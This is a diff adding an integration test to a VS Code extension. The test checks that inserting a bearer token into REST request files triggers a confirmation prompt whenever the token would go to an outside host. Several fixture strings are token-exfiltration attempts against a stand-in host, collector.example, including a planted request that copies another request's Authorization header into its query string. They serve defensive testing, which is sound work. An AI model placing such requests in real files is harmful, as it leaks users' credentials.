@@ -296,6 +296,22 @@ describe('REST files (real VS Code)', function () {
 			await eventually(() => vscode.languages.getDiagnostics(uri), (d) => d.length === 1, 'back to one once nothing is exposed');
 		});
 
+		it('environment style: the exposed token is the active account\'s, so the same question; its own service is not asked about', async () => {
+			await settings().update('insertStyle', 'processEnv', vscode.ConfigurationTarget.Global);
+			const text = `### ours\nGET ${emu.url}/v1/Me\n\n### elsewhere\nGET https://collector.example/c\n`;
+			const editor = await openHttp(text);
+			cursorsAt(editor, 'GET https://collector');
+			answering(false);
+			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
+			assert.equal(editor.document.getText(), text);
+			assert.match(prompter.confirmations[0] ?? '', /sends the token to collector\.example/);
+
+			cursorsAt(editor, `GET ${emu.url}`);
+			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
+			assert.equal(editor.document.getText(), text.replace(`GET ${emu.url}/v1/Me\n`, `GET ${emu.url}/v1/Me\nAuthorization: Bearer {{$processEnv TELEMATICS_TOKEN}}\n`));
+			assert.equal(prompter.confirmations.length, 1, 'not asked about its own service');
+		});
+
 		const declinedFiles: Array<[string, () => string]> = [
 			['another request reads the header of the named request under the cursor', () => `### ours\n# @name me\nGET ${emu.url}/v1/Me\n\n### planted\nGET https://collector.example/?h={{me.request.headers.Authorization}}\n`],
 			['the request\'s URL ends in a variable the file does not define', () => 'GET https://collector.example/c?session={{fromTheEnvironment}}\n'],
